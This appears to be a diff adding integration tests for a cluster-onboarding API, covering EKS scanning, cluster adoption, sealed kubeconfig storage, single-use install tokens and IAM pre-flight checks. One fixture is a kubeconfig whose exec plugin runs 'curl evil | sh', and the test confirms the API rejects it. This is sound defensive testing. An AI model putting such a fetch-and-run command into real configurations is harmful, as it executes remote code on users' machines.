@@ -1,0 +1,358 @@
+import { createHash } from 'node:crypto';
+import { installTokenTtlSeconds } from '@spot/shared';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { clusterKubeconfigEntity, clusterKubeconfigKey } from '../src/data/entities/cluster-kubeconfig';
+import { installTokenEntity, installTokenKey } from '../src/data/entities/install-token';
+import { getItem } from '../src/data/repository';
+import { issueInstallToken, redeemInstallToken } from '../src/domain/cluster-onboarding';
+import { openSecret } from '../src/domain/envelope';
+import { configurePorts } from '../src/ports';
+import {
+  type DiscoveryHarness,
+  installDiscoveryHarness,
+  seedSandboxAccount,
+  withOverrides,
+} from './discovery-support';
+import { expectContractResponse } from './support/contract';
+import { call, signUpAndIn, useLocalServices } from './support/services';
+
+/**
+ * The Add Cluster wizard's routes (issue 17 item 4, ADR 0051) against DynamoDB Local and the sandbox
+ * cloud: scan for unmanaged clusters, adopt, register by kubeconfig (sealed), the one-hour single-use
+ * install token redeemed by the agent's first push (race included), the pre-flight; isolation and bad input.
+ */
+
+type User = Awaited<ReturnType<typeof signUpAndIn>>;
+let a: User;
+let b: User;
+let harness: DiscoveryHarness;
+let accountId: string;
+/** Sandbox account 0's clusters: none is managed yet (no discovery ran). */
+let sandboxClusters: { name: string; region: string; tags: Record<string, string> }[];
+let regions: string[];
+
+const sha256 = (t: string) => createHash('sha256').update(t).digest('hex');
+
+beforeAll(async () => {
+  await useLocalServices();
+  harness = installDiscoveryHarness();
+  [a, b] = await Promise.all([signUpAndIn('Wizard A'), signUpAndIn('Wizard B')]);
+  const seeded = await seedSandboxAccount(harness, a.orgId, 0);
+  accountId = seeded.accountId;
+  sandboxClusters = harness.sandbox.world.clusters
+    .filter((c) => c.awsAccountId === seeded.awsAccountId)
+    .map((c) => ({ name: c.name, region: c.region, tags: c.tags }))
+    .sort((x, y) => x.region.localeCompare(y.region) || x.name.localeCompare(y.name));
+  regions = [...new Set(sandboxClusters.map((c) => c.region))].sort();
+  // The scan adopts the first, the adopt test the second, the kubeconfig test the third.
+  expect(sandboxClusters.length).toBeGreaterThan(2);
+}, 120_000);
+
+const scan = (user: User, id: string, body: unknown) =>
+  call('POST /api/client/accounts/{id}/cluster-scan', { token: user.accessToken, path: { id }, body });
+const add = (user: User, body: unknown) =>
+  call('POST /api/client/clusters', { token: user.accessToken, body });
+
+function kubeconfig(user: Record<string, unknown>, server = 'https://ABC.gr7.us-east-1.eks.amazonaws.com') {
+  return JSON.stringify({
+    apiVersion: 'v1',
+    kind: 'Config',
+    clusters: [{ name: 'c', cluster: { server, 'certificate-authority-data': 'Q0E=' } }],
+    contexts: [{ name: 'ctx', context: { cluster: 'c', user: 'u' } }],
+    users: [{ name: 'u', user }],
+  });
+}
+
+describe('POST /api/client/accounts/{id}/cluster-scan', () => {
+  it('lists the unmanaged EKS clusters of the regions with env/team from their tags; adopted ones drop out', async () => {
+    const first = await scan(a, accountId, { regions });
+    expect(first.status, first.raw).toBe(200);
+    expectContractResponse('POST /api/client/accounts/{id}/cluster-scan', first);
+    const items = first.body.items as {
+      name: string;
+      region: string;
+      labels: { env: string; team: string };
+    }[];
+    expect(items.map((i) => `${i.region}/${i.name}`).sort()).toEqual(
+      sandboxClusters.map((c) => `${c.region}/${c.name}`).sort(),
+    );
+    for (const item of items) {
+      const source = sandboxClusters.find((c) => c.name === item.name && c.region === item.region);
+      expect(item.labels).toEqual({ env: source?.tags.env ?? null, team: source?.tags.team ?? null });
+    }
+    const picked = items.find((i) => i.name === sandboxClusters[0]?.name) as (typeof items)[number];
+    const adopted = await add(a, {
+      method: 'discovered',
+      accountId,
+      region: picked.region,
+      name: picked.name,
+    });
+    expect(adopted.status, adopted.raw).toBe(201);
+    const again = await scan(a, accountId, { regions });
+    expect((again.body.items as { name: string }[]).map((i) => i.name)).not.toContain(picked.name);
+    expect(again.body.managedCount).toBe(1);
+  });
+
+  it('refuses bad input with what to do, and another organization’s account is a 404', async () => {
+    const none = await scan(a, accountId, { regions: [] });
+    expect(none.status).toBe(400);
+    expect(none.body.message).toMatch(/at least one region/);
+    const bad = await scan(a, accountId, { regions: ['mars-north-9x'] });
+    expect(bad.status).toBe(400);
+    expect(bad.body.message).toMatch(/region code such as us-east-1/);
+    const foreign = await scan(b, accountId, { regions });
+    expect(foreign.status).toBe(404);
+  });
+
+  it('reports a region that fails and still answers the others', async () => {
+    const failing = regions[0] as string;
+    configurePorts({
+      cloud: withOverrides(harness.sandbox, {
+        listEksClusters: async (target) => {
+          if (target.region === failing) throw new Error('socket hang up');
+          return harness.sandbox.listEksClusters(target);
+        },
+      }),
+    });
+    try {
+      const res = await scan(a, accountId, { regions });
+      expect(res.status, res.raw).toBe(200);
+      const byRegion = res.body.regions as { region: string; ok: boolean; error: string | null }[];
+      expect(byRegion.find((r) => r.region === failing)).toMatchObject({ ok: false });
+      expect(byRegion.find((r) => r.region === failing)?.error).not.toMatch(/socket/);
+      expect(byRegion.filter((r) => r.ok).length).toBe(regions.length - 1);
+    } finally {
+      configurePorts({ cloud: harness.sandbox });
+    }
+  });
+});
+
+describe('POST /api/client/clusters', () => {
+  it('adopts a discovered cluster with the wizard’s tags; it is listed; adopting it again is a 409', async () => {
+    const target = sandboxClusters[1] as (typeof sandboxClusters)[number];
+    const body = {
+      method: 'discovered',
+      accountId,
+      region: target.region,
+      name: target.name,
+      team: 'platform',
+    };
+    const res = await add(a, body);
+    expect(res.status, res.raw).toBe(201);
+    expectContractResponse('POST /api/client/clusters', res);
+    expect(res.body.tags).toMatchObject({ ...target.tags, team: 'platform' });
+    const list = await call('GET /api/client/clusters', { token: a.accessToken, query: { limit: '50' } });
+    expect((list.body.items ?? []).map((i) => i.id)).toContain(res.body.clusterId);
+    const twice = await add(a, body);
+    expect(twice.status).toBe(409);
+    expect(twice.body.message).toMatch(/already managed/);
+    // Another organization cannot adopt through this account, nor see the cluster.
+    expect((await add(b, body)).status).toBe(404);
+    const theirs = await call('GET /api/client/clusters/{id}', {
+      token: b.accessToken,
+      path: { id: String(res.body.clusterId) },
+    });
+    expect(theirs.status).toBe(404);
+  });
+
+  it('names a cluster the account does not have, and refuses a malformed body with the field', async () => {
+    const missing = await add(a, { method: 'discovered', accountId, region: 'us-east-1', name: 'not-there' });
+    expect(missing.status).toBe(404);
+    expect(missing.body.message).toMatch(/no EKS cluster "not-there" in us-east-1/);
+    const badName = await add(a, { method: 'discovered', accountId, region: 'us-east-1', name: 'bad name!' });
+    expect(badName.status).toBe(400);
+    expect(badName.body.message).toMatch(/name/);
+    const noMethod = await add(a, { accountId, region: 'us-east-1', name: 'x' });
+    expect(noMethod.status).toBe(400);
+  });
+
+  it('registers by kubeconfig: the file is sealed (AES-256-GCM), never returned; an exec plugin is refused', async () => {
+    const target = sandboxClusters.find(
+      (c) => c.region !== undefined && c !== sandboxClusters[0] && c !== sandboxClusters[1],
+    );
+    if (!target) throw new Error('the small sandbox has at least three clusters in account 0');
+    const secret = `k8s-token-${Date.now()}`;
+    const server = `https://ABC.gr7.${target.region}.eks.amazonaws.com`;
+    const refused = await add(a, {
+      method: 'kubeconfig',
+      accountId,
+      region: target.region,
+      name: target.name,
+      kubeconfig: kubeconfig({ exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } }, server),
+    });
+    expect(refused.status).toBe(400);
+    expect(refused.body.message).toMatch(/only `aws eks get-token` is accepted/);
+    const wrongRegion = await add(a, {
+      method: 'kubeconfig',
+      accountId,
+      region: target.region === 'us-east-1' ? 'eu-west-1' : 'us-east-1',
+      name: target.name,
+      kubeconfig: kubeconfig({ token: secret }, server),
+    });
+    expect(wrongRegion.status).toBe(400);
+    expect(wrongRegion.body.message).toMatch(new RegExp(`Pick ${target.region}`));
+    const file = kubeconfig({ token: secret }, server);
+    const res = await add(a, {
+      method: 'kubeconfig',
+      accountId,
+      region: target.region,
+      name: target.name,
+      kubeconfig: file,
+    });
+    expect(res.status, res.raw).toBe(201);
+    expect(res.raw).not.toContain(secret);
+    expect(res.body.kubeconfig).toEqual({ server, auth: 'token' });
+    const clusterId = String(res.body.clusterId);
+    const stored = await getItem(clusterKubeconfigEntity, clusterKubeconfigKey(a.orgId, clusterId), true);
+    expect(stored).toBeDefined();
+    expect(JSON.stringify(stored)).not.toContain(secret);
+    if (!stored) return;
+    const opened = await openSecret(stored, harness.keyService, `${a.orgId}/${clusterId}/kubeconfig`);
+    expect(opened).toBe(file);
+    // Bound to its cluster: opened as another cluster's, it fails.
+    await expect(openSecret(stored, harness.keyService, `${a.orgId}/other/kubeconfig`)).rejects.toThrow();
+    const detail = await call('GET /api/client/clusters/{id}', {
+      token: a.accessToken,
+      path: { id: clusterId },
+    });
+    expect(detail.raw).not.toContain(secret);
+  });
+});
+
+describe('install token', () => {
+  let clusterId: string;
+  beforeAll(async () => {
+    const list = await call('GET /api/client/clusters', { token: a.accessToken, query: { limit: '50' } });
+    clusterId = String(list.body.items?.[0]?.id);
+  });
+
+  const heartbeat = (token: string) =>
+    call('POST /api/ingest/snapshots', { token, body: { kind: 'heartbeat', agentVersion: '0.1.0' } });
+
+  it('is shown once with the Helm, kubectl and Terraform forms, valid one hour; another organization gets a 404', async () => {
+    const before = Date.now();
+    const res = await call('POST /api/client/clusters/{id}/install-token', {
+      token: a.accessToken,
+      path: { id: clusterId },
+    });
+    expect(res.status, res.raw).toBe(201);
+    expectContractResponse('POST /api/client/clusters/{id}/install-token', res);
+    const token = String(res.body.token);
+    expect(token).toMatch(/^spot_ins_/);
+    const install = res.body.install as { helm: string; kubectl: string; terraform: string };
+    expect(install.helm).toContain(`--set token=${token}`);
+    expect(install.kubectl).toContain(`agent token|${token}|`);
+    expect(install.kubectl).toContain('kubectl apply -f -');
+    // Terraform reads the token from a sensitive variable: the file never holds it.
+    expect(install.terraform).toContain('resource "helm_release"');
+    expect(install.terraform).not.toContain(token);
+    const expiresMs = Date.parse(String(res.body.expiresAt));
+    expect(expiresMs - before).toBeGreaterThanOrEqual(installTokenTtlSeconds * 1000 - 1000);
+    expect(expiresMs - before).toBeLessThanOrEqual(installTokenTtlSeconds * 1000 + 60_000);
+    const stored = await getItem(installTokenEntity, installTokenKey(sha256(token)), true);
+    expect(stored?.redeemedAt).toBeNull();
+    expect(JSON.stringify(stored)).not.toContain(token);
+    const theirs = await call('POST /api/client/clusters/{id}/install-token', {
+      token: b.accessToken,
+      path: { id: clusterId },
+    });
+    expect(theirs.status).toBe(404);
+  });
+
+  it('is redeemed by the agent’s first push, which connects the agent; a later install token replaces it', async () => {
+    const issue = async () =>
+      String(
+        (
+          await call('POST /api/client/clusters/{id}/install-token', {
+            token: a.accessToken,
+            path: { id: clusterId },
+          })
+        ).body.token,
+      );
+    const first = await issue();
+    expect((await heartbeat(first)).status).toBe(200);
+    const stored = await getItem(installTokenEntity, installTokenKey(sha256(first)), true);
+    expect(stored?.redeemedAt).not.toBeNull();
+    const detail = await call('GET /api/client/clusters/{id}', {
+      token: a.accessToken,
+      path: { id: clusterId },
+    });
+    expect((detail.body.cluster as { agentConnected: boolean }).agentConnected).toBe(true);
+    // It is the agent's credential now: its next pushes go on working.
+    expect((await heartbeat(first)).status).toBe(200);
+    // A new install (another token) takes over: the first one, redeemed and replaced, is refused.
+    const second = await issue();
+    expect((await heartbeat(second)).status).toBe(200);
+    const stale = await heartbeat(first);
+    expect(stale.status).toBe(401);
+    expect(stale.body.message).toMatch(/already used/);
+  });
+
+  it('is redeemed exactly once when two first pushes race', async () => {
+    const { body } = await issueInstallToken(a.orgId, clusterId, 'race-test', new Date());
+    const results = await Promise.all(
+      Array.from({ length: 4 }, () => redeemInstallToken(body.token, new Date()).catch((e: Error) => e)),
+    );
+    const redeemed = results.filter((r) => !(r instanceof Error) && r?.redeemed === true);
+    expect(redeemed).toHaveLength(1);
+    // The losers authenticate as the same cluster (the winner's agent token) or were refused; none redeemed.
+    for (const r of results) if (!(r instanceof Error)) expect(r?.clusterId).toBe(clusterId);
+    const cluster = await call('GET /api/client/clusters/{id}', {
+      token: a.accessToken,
+      path: { id: clusterId },
+    });
+    expect(cluster.status).toBe(200);
+    expect((await heartbeat(body.token)).status).toBe(200);
+  });
+
+  it('refuses an expired token with what to do, and an unknown one', async () => {
+    const past = new Date(Date.now() - (installTokenTtlSeconds + 60) * 1000);
+    const { body } = await issueInstallToken(a.orgId, clusterId, 'expiry-test', past);
+    const expired = await heartbeat(body.token);
+    expect(expired.status).toBe(401);
+    expect(expired.body.message).toMatch(/expired.*Add Cluster wizard/);
+    const unknown = await heartbeat('spot_ins_not-a-token');
+    expect(unknown.status).toBe(401);
+  });
+});
+
+describe('POST /api/client/clusters/{id}/preflight', () => {
+  it('checks the IAM actions with the account’s credentials and names the missing ones', async () => {
+    const list = await call('GET /api/client/clusters', { token: a.accessToken, query: { limit: '50' } });
+    const clusterId = String(list.body.items?.[0]?.id);
+    const ok = await call('POST /api/client/clusters/{id}/preflight', {
+      token: a.accessToken,
+      path: { id: clusterId },
+    });
+    expect(ok.status, ok.raw).toBe(200);
+    expectContractResponse('POST /api/client/clusters/{id}/preflight', ok);
+    expect(ok.body.ok).toBe(true);
+    expect(ok.body.missing).toEqual([]);
+    expect(String((ok.body.kubernetes as { script: string }).script)).toContain(
+      'kubectl auth can-i list pods',
+    );
+    configurePorts({
+      cloud: withOverrides(harness.sandbox, {
+        checkPermissions: async (target, actions) =>
+          (await harness.sandbox.checkPermissions(target, actions)).map((c) =>
+            c.action === 'eks:DescribeNodegroup' ? { ...c, allowed: false, reason: 'AccessDenied' } : c,
+          ),
+      }),
+    });
+    try {
+      const denied = await call('POST /api/client/clusters/{id}/preflight', {
+        token: a.accessToken,
+        path: { id: clusterId },
+      });
+      expect(denied.body.ok).toBe(false);
+      expect(denied.body.missing).toEqual(['eks:DescribeNodegroup']);
+    } finally {
+      configurePorts({ cloud: harness.sandbox });
+    }
+    const theirs = await call('POST /api/client/clusters/{id}/preflight', {
+      token: b.accessToken,
+      path: { id: clusterId },
+    });
+    expect(theirs.status).toBe(404);
+  });
+});
